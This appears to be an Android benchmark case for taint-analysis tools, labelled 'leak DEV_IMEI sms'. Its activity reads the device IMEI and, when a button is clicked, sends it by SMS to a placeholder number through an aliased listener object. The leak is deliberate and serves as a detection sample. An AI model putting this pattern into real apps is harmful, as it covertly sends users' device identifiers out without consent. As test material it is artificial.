// about       The click listener holds the object that is filled after the listener was made.
// leak        DEV_IMEI sms
// layout      main <LinearLayout android:layout_width="match_parent" android:layout_height="match_parent"><Button android:id="@+id/send" android:layout_width="wrap_content" android:layout_height="wrap_content" android:text="Send"/></LinearLayout>
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class MainActivity extends Activity {
  static class Draft {
    String text = "nothing yet";

    Draft() {}

    Draft(Draft other) {
      text = other.text;
    }
  }

  static class Sender implements View.OnClickListener {
    private final Draft draft;

    Sender(Draft draft) {
      this.draft = draft;
    }

    @Override
    public void onClick(View view) {
      SmsManager.getDefault().sendTextMessage("+15550100", null, draft.text, null, null);
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    setContentView(R.layout.main);
    Draft draft = new Draft();
    // The listener and this method share the draft.
    ((Button) findViewById(R.id.send)).setOnClickListener(new Sender(draft));
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    draft.text = phone.getDeviceId();
  }
}
